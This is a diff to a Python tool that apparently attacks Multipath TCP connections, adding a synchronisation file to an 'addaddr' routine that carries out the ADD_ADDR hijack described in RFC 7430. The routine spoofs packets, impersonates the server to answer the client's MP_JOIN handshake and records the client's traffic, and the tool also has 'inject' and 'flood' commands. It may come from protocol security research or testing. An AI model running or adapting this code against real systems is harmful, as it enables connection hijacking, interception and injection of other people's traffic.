@@ -301,7 +301,11 @@ def inject(state, iface, src, dst, port, data):
 
 # ---- ADD_ADDR hijack --------------------------------------------------------
 
-def addaddr(state, iface, addr, mode, marker):
+def addaddr(state, iface, addr, mode, marker, spoofed):
+    """The RFC 7430 hijack.  The spoof goes out while the client is idle, so
+    that the ACK number read off the capture is still current: the caller
+    lets the client send again only once the file spoofed exists, which it
+    does as soon as the join is answered or the attempts are over."""
     st = load_state(state)
     key_s, key_c = st['key_s'], st['key_c']
     (c_ip, c_port), (s_ip, s_port) = st['client'], st['server']
@@ -334,6 +338,7 @@ def addaddr(state, iface, addr, mode, marker):
             break
     report['join_syn'] = bool(syn and MP_JOIN in syn.mp)
     if not report['join_syn']:
+        open(spoofed, 'w').close()
         return report
     # play the server: SYN/ACK with HMAC-B, then ACK the third ACK
     r_a = syn.mp[MP_JOIN][8:12]
@@ -353,6 +358,7 @@ def addaddr(state, iface, addr, mode, marker):
     dack = struct.pack('!BBBBQ', MPTCP_KIND, 12, DSS << 4, 0x03, data_ack)
     rcv_nxt = syn.seq + 1
     send(raw, tcp_packet(addr, syn.src, syn.dport, syn.sport, isn + 1, rcv_nxt, TCP_ACK, dack))
+    open(spoofed, 'w').close()
     # record what the client sends us, acknowledged at the subflow level so
     # that the path looks healthy (the data level is left to the real server)
     got = {}
@@ -423,7 +429,7 @@ def main(argv):
             data = b'\x17\x03\x03' + struct.pack('!H', len(body)) + body
         r = inject(argv[2], argv[3], argv[4], argv[5], int(argv[6]), data)
     elif cmd == 'addaddr':
-        r = addaddr(argv[2], argv[3], argv[4], argv[5], argv[7])
+        r = addaddr(argv[2], argv[3], argv[4], argv[5], argv[7], argv[6] + '.spoofed')
         with open(argv[6], 'w') as f:
             json.dump(r, f)
     elif cmd == 'flood':
